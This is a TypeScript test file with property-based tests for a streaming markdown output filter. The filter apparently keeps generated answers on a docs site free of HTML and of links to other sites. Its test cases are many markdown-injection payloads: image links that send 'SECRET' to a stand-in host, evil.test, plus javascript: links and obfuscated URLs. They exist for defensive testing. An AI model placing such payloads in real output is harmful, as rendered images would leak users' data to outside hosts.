import fc from 'fast-check'
import { marked } from 'marked'
import type { Nodes } from 'mdast'
import remarkGfm from 'remark-gfm'
import remarkMath from 'remark-math'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { expect, test } from 'vitest'
import { ownLinks } from '../../text/ownLink.js'
import { outputFilter } from './outputFilter.js'

const SITE = 'https://docs.example.com/'
const isOwn = ownLinks(SITE)
const commonMark = unified().use(remarkParse)
const gfm = unified().use(remarkParse).use(remarkGfm)
const math = unified().use(remarkParse).use(remarkGfm).use(remarkMath)

/** Returns the output of a filter that receives the text in pieces. */
function filtered(text: string, sizes: readonly number[]): string[] {
  const filter = outputFilter(isOwn)
  const lines: string[] = []
  let at = 0
  for (let turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1
    lines.push(filter.push(text.slice(at, at + size)))
    at += size
  }
  return [...lines, filter.end()]
}

/** Returns what an answer must not contain: HTML, and links and images to other sites. */
function foreign(markdown: string): string[] {
  const names = new Set<string>()
  const record = (kind: string, address: string) => {
    const url = URL.canParse(address, `${SITE}guides/a`) ? new URL(address, `${SITE}guides/a`) : undefined
    if (url?.origin !== new URL(SITE).origin) names.add(`${kind} ${address}`)
  }
  const look = (node: Nodes) => {
    if (node.type === 'html') names.add(`html ${node.value}`)
    if ('url' in node) record(node.type, node.url)
    if ('children' in node) for (const child of node.children) look(child)
  }
  for (const parser of [commonMark, gfm, math]) look(parser.parse(markdown))
  marked.walkTokens(marked.lexer(markdown), (token) => {
    if (token.type === 'html') names.add(`html ${token.raw}`)
    if ('href' in token) record(`marked's ${token.type}`, token.href)
  })
  return [...names]
}

test.each([
  '![x](> //evil.test/?q=SECRET)',
  '[x](> //evil.test/x)',
  '[x](> javascript:alert(1))',
  '![x](>\n//evil.test/?q=S)',
  '![x][1]\n\n[1]: > //evil.test/?q=SECRET\n',
  '> ![x][1]\n>\n> [1]:\n> //evil.test/?q=SECRET\n',
  '> ![x](\n> //evil.test/?q=SECRET)\n',
  '![x](> &#104;ttps://evil.test/?q=S)',
  '![x](> \\https://evil.test/?q=S)',
  '![x](> https&colon;//evil.test/?q=S)',
  '![x](> data:image/svg+xml,x)',
  '[x](< //evil.test>)',
  '[x](<> //evil.test)',
  '[x](<>//evil.test)',
  '![d](<>//evil.test/i)',
  '![x](<>> //evil.test)',
  '[x](<javascript>:alert(1))',
  '[x]: <javascript>:alert(1)\n\n[x]',
  '[x]: <> //evil.test\n\n[x]',
  '![[a](/x](//evil.test/?q=SECRET)',
  '| a | b |\n|---|---|\n| https://evil.test/?q=SECRET|x |\n',
  'a | b\n---|---\nsee https://evil.test/?q=SECRET|next\n',
  '| a |\n|---|\n| www.evil.test/| `x |\n',
  'see http:&#47;&#47;evil.test/?q=SECRET now',
  'see http:\\/\\/evil.test/?q=SECRET now',
  'see http\\://evil.test/?q=SECRET now',
  'see www&period;evil.test now',
  'see www&#46;evil.test now',
  'see www\\.evil.test now',
  'see h&#116;tps://evil.test now',
  'ahttps://docs.example.com/http\\://evil.test',
  'a@evil.test',
  'a\\@evil.test and a&commat;evil.test',
  'a@evil\\.test and <1@evil.test>',
  '1@.evil',
  'https://docs.example.com\\/</a>https://docs.example.com/x',
  'https://docs.example.com\\/`https://evil.test`<b>https://docs.example.com/x',
  '*`<img src=//evil.test>*\\`',
  '`\\`*``https://evil.test*``',
  '`x | <img src=//evil.test>`$$\n>|-|-|\n',
  '`x | <img src=//evil.test>`\n![](//evil.test)|-|-|\n',
  '**| ~~**~~`<img src=//evil.test>`',
  '![`[](//evil.test)`](/b)',
  '[a \\[\\](//evil.test) b](/b)',
  '| a | b |\n|---|---|\n|---|---|\n| `x | <img src=//evil.test>` |\n',
  '| a | b |\n|---|---|\n| `x\\\\| <img src=//evil.test>` |\n',
  '`x | <img src=//evil.test>`\n|\t---\t|---|\n',
  `\`x | <img src=//evil.test>\`\n|${' '.repeat(2_100)}-|-|\n`,
  `\`\`\`\n\`\`\`${' '.repeat(2_100)}\n<img src=//evil.test>\n`,
  'a.b@-..evil',
  '[x](/x|a@evil.test)',
  '~~$`https://evil.test/?q=~~`',
  '~ `a www.evil.test~',
  '~~`a`. \\<`https://evil.test`>',
  '~~x `a~~` b `https://evil.test`',
  'a\n``` https://evil.test',
  '- ~~~\n  ```\n  ~~~\n  <img src=//evil.test>\n',
  '1.  a\n\n    ~~~\n   ```\n   ~~~\n   <img src=//evil.test>\n',
  '$ ` $ <img src=x> `',
  '$ ` $ https://evil.test `',
  '$$\n```\n$$\n<img src=x>\n```\n',
  '- $$\n\ntext\n$$\n```\n$$\n<img src=x>\n```\n',
  '```\n```~\n<img src=x>\n```\n',
  '```\n```\t\n text\n```\n<img src=x>\n',
  '```\n```\u00a0\n text\n```\n<img src=x>\n',
  '[``b](//evil.test)``',
  '[a ``b`](//evil.test)``',
  '[``a`` `b](//evil.test)`',
  '- [ ] [a]: //evil.test\n\n[a]',
  '[a]: /b "\n```\n"\n![x](https://evil.test/?q=SECRET)\n```\n',
  "[a]: /b '\n~~~\n'\n![x](https://evil.test/?q=SECRET)\n~~~\n",
  '[a]: /b (\n```\n)\n![x](https://evil.test/?q=SECRET)\n```\n',
  '[a]: /b\n"\n```\n\n"\n![x](https://evil.test/?q=SECRET)\n```\n',
  '[\n```\n]:x\n<b>',
  'See:\n\n[a\n```\n]: /b\n![x](https://evil.test/?q=SECRET)\n```\n',
  '- [a]: /b "\n  ```\n  "\n  ![x](https://evil.test/?q=SECRET)\n  ```\n',
  '> [a]: /b "\n> ```\n> "\n> ![x](https://evil.test/?q=SECRET)\n> ```\n',
  '[a\n\nb]: //evil.test\n\n![a b]',
  '[a\nb `]: //evil.test`\n\n[a\nb `]',
  '`a | <img src=x>`\n|---|---|\n',
  '`a|b` https://evil.test a@evil.test\n|---|---|\n',
  '> a\n> ```<img src=x>\n',
  '| `a | b` and `<img src=x>` |\n|---|---|\n',
  '- a\ntext\n    ```\n<img src=x>\n    ```\n',
  'a\n2. b\n\n     ```\n     <img src=x>\n     ```\n',
  '- - -\n    ```\n<img src=x>\n',
  '> ```\n> a\n<img src=x>\n',
  '- Step\n> **Note**\n> ```\n> ![x](https://evil.test/?q=SECRET)\n> ```\n',
  '- a\n> ```\n> <img src=//evil.test>\n> ```\n',
  '1. a\n2. b\n > ```\n > <img src=//evil.test>\n',
  '10. a\n  > ```\n  > <img src=//evil.test>\n',
  '- [ ] a\n> ~~~\n> ![x](//evil.test)\n~~~\n',
  'a\n> - b\n10. c\n> d\ne\n```\n10. f\n  > ```\ng\n![x](//evil.test)\n',
  '> - "\n  > - \n10. a\n>   b\nc\n~~~\n  > d\n![x](//evil.test)\n',
  '> - a\n> > ```\n> > <img src=//evil.test>\n',
  '$$\n<img src=//evil.test>\n</b><!--x--><?x?><!X>\n<https://evil.test>\n<a@evil.test>\n$$\n',
  '- $$\n  <img src=//evil.test>\n\n<b>\n',
  'b\n - ```\n   ![x](//evil.test)\n - ```\n- \n',
  'b\n  - x\n    ```\n    ![x](//evil.test)\n---\n',
  '- a\n    - b\n      ```\n      ![x](//evil.test)\n  ===\n',
  '> b\n>  - ```\n>    ![x](//evil.test)\n> ---\n',
  '- > a\n   >\n > ```\n > <img src=//evil.test>\n > ```\n  > \n',
  '    - a\n\n2. a\n    - ```\n      ![x](//evil.test)\n    - ```\n',
  '>     a\n>\n> 2. a\n>     - ```\n>       ![x](//evil.test)\n>     - ```\n',
])('links nowhere outside the site, however the text is divided: %j', (text) => {
  for (const sizes of [[text.length], [1], [2], [3], [7]]) {
    const output = filtered(text, sizes).join('')
    expect(foreign(output), output).toEqual([])
  }
})

/** Fragments of links, images, code and HTML, with the notations of their characters. */
const PIECES = [
  ...'![]()<>\\ :/"\'&#;|~*_`.@=?-+x1\t\n',
  ...['](', ']:', '![x](', '[1]: ', '[x][1]', '[^1]:', '<>', '<img src=', '\n\n', '\n> ', '> ', '- ', '1. ', '    '],
  ...['http', 'https:', 'http://', '//', 'www', 'www.', 'ftp://', 'mailto:', 'javascript:', 'data:', 'evil.test'],
  ...['//evil.test/?q=S', 'https://evil.test', 'www.evil.test', 'a@evil.test', '<https://evil.test>'],
  ...['&#104;', '&#47;', '&#x2f;', '&colon;', '&period;', '&commat;', '&lt;', '&amp;', '\\/', '\\.', '\\:', '\\@'],
  ...[
    '```',
    '```\n',
    '\n```\n',
    '~~~',
    '\n~~~\n',
    '``',
    '\r',
    '\u00a0',
    '\u{1f4a1}',
    '\u{1f3f4}\u{e0067}',
    '\u00ad',
    '\u200d',
    '*a*',
    '~~',
    '$',
    '$$\n',
    '\n$$\n',
    '<img src=x>',
    '`<b>`',
    '\n    ',
    '\n  - ',
    '\n> - ',
  ],
  ...['| a | b |\n|---|---|\n| ', ' | ', '\n|---|\n', '[a](/b)', '/guides/a', '#b', '<a>', '</a>', '"t"'],
  ...['https://docs.example.com', 'https://docs.example.com/x', '[a](https://docs.example.com/x "t")', 'word'],
]

test('output of random text links nowhere outside the site', () => {
  const piece = fc.constantFrom(...PIECES)
  const texts = fc.array(piece, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''))
  const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 })
  fc.assert(
    fc.property(texts, cuts, (text, sizes) => {
      const pieces = filtered(text, sizes)
      const output = pieces.join('')
      expect(foreign(output), output).toEqual([])
      // Collects the nodes that a reader sees.
      expect(foreign(pieces.slice(0, pieces.length / 2).join(''))).toEqual([])
      // A second pass may drop what the first one kept, but adds nothing.
      const again = filtered(output, [output.length]).join('')
      expect(foreign(again), again).toEqual([])
    }),
    { numRuns: 800 },
  )
})

/** Markers at the start of lines in lists and quotes. */
const MARKS = ['- ', '1. ', '2. ', '10. ', '> ', '> ', '>', '> > ', '> - ', '- > ', '- [ ] ', '* ', '']

test('fences inside lists and quotes are code for every renderer', () => {
  const indent = fc.constantFrom('', '', ' ', '  ', '   ', '    ')
  const mark = fc.tuple(indent, fc.constantFrom(...MARKS)).map((parts) => parts.join(''))
  const before = fc.tuple(mark, fc.constantFrom('a', 'a', '')).map((parts) => parts.join(''))
  const start = fc.array(before, { minLength: 1, maxLength: 3 })
  const fence = fc.constantFrom('```', '~~~', '```js')
  const foreigner = fc.constantFrom('![x](//evil.test)', '<img src=//evil.test>')
  const block = fc.tuple(mark, mark, fence, foreigner, fc.nat(3)).map(([openingMark, other, sign, text, way]) => {
    const [second, third] = [way & 1 ? openingMark : other, way & 2 ? openingMark : other]
    return [openingMark + sign, second.replace(/[-*\d.]/g, ' ') + text, third + sign.slice(0, 3)]
  })
  const end = fc.constantFrom('', '', 'a', '---', '===', '- ')
  fc.assert(
    fc.property(start, block, end, fc.integer({ min: 1, max: 9 }), (first, code, last, size) => {
      const text = `${[...first, ...code].join('\n')}\n${last}\n`
      const output = filtered(text, [size]).join('')
      expect(foreign(output), output).toEqual([])
      expect(output).toBe(filtered(text, [text.length]).join(''))
    }),
    { numRuns: 1_000 },
  )
})

/** Documents of paragraphs, tables, code and formulas in lists and quotes, with text that must not become a link. */
function documents(): fc.Arbitrary<string> {
  const one = (...values: string[]) => fc.constantFrom(...values)
  const many = <T>(item: fc.Arbitrary<T>, minLength: number, maxLength: number) =>
    fc.array(item, { minLength, maxLength })
  const evil = one('<img src=//evil.test>', '![x](//evil.test)', 'https://evil.test', '[x](//evil.test)')
  const before = one('', 'a ', 'x | ', '\\| ', '\\\\| ', '$', '~~', '``', '\\', '\n', '[', '](', '![')
  const after = one('', ' b', '|', '\\', '$', '~~', '\n', ')', ']')
  const span = fc
    .tuple(before, evil, after, one('`', '``', '```', '$', '$$', '~~', '**', ''))
    .map(([start, text, end, mark]) => mark + start + text + end + mark)
  const signs = one(
    'a',
    '|',
    '`',
    '``',
    '$',
    '$$',
    '~~',
    '[',
    ']',
    '](',
    '(',
    ')',
    '!',
    '\\',
    '*',
    '**',
    '_',
    '<',
    '说',
  )
  const words = one('www.', 'http', '://', 'a@b.c', '1.', '-', '+', '#', '>', '=', '`c|d`', '$x|y$', '~~z~~', '[a](/b)')
  const images = one('![i](/y.png)', '![](//evil.test)', '![i](//evil.test)', 'https://docs.example.com/x')
  const word = fc.oneof(signs, words, images, span)
  const line = many(fc.tuple(word, one(' ', ' ', '')), 1, 6).map((parts) => parts.flat().join(''))
  const row = many(line, 1, 3).map((cells) => `| ${cells.join(' | ')} |`)
  const rule = one('|---|---|', '---|---', ':--|:-:', '|-|', '\t|---|---|', '---', '===', '|', '- -')
  const odd = one('', '', '- ', '> ', '1. a', '```', '~~~', '    ```', '# h', '\t<b>', '$$', '```x', '``` ', '> ```')
  const block = fc.oneof(
    many(line, 1, 3),
    fc.tuple(fc.oneof(row, line), rule, many(fc.oneof(row, line, rule), 0, 3)).map((lines) => lines.flat()),
    fc
      .tuple(one('```', '~~~', '````', '```js'), many(fc.oneof(evil, odd), 0, 5), one('```', '~~~', ''))
      .map((lines) => lines.flat()),
    fc.tuple(one('$$', '$$ a'), many(fc.oneof(evil, line, odd), 0, 3), one('$$', 'b$$')).map((lines) => lines.flat()),
    fc.constantFrom(['# h'], ['---'], ['[a]: //evil.test'], ['<div>'], ['    code'], ['- ']),
  )
  const marks = many(one('', '', '- ', '1. ', '10. ', '> ', '- [ ] ', '* ', '  ', '    '), 0, 3).map((parts) =>
    parts.join(''),
  )
  const placed = fc.tuple(marks, block, fc.boolean()).map(([start, lines, isLazy]) => {
    const next = isLazy ? '' : start.replace(/[^>\s]/g, ' ')
    return lines.map((text, at) => (at === 0 ? start : next) + text).join('\n')
  })
  return many(fc.tuple(placed, one('\n', '\n\n')), 1, 4).map((blocks) => blocks.flat().join(''))
}

test('hostile documents and every prefix of their output link nowhere outside the site', () => {
  fc.assert(
    fc.property(documents(), fc.integer({ min: 1, max: 9 }), (text, size) => {
      const pieces = filtered(text, [size])
      const output = pieces.join('')
      expect(foreign(output), output).toEqual([])
      expect(foreign(pieces.slice(0, pieces.length / 2).join(''))).toEqual([])
      expect(output).toBe(filtered(text, [text.length]).join(''))
    }),
    { numRuns: 800 },
  )
})
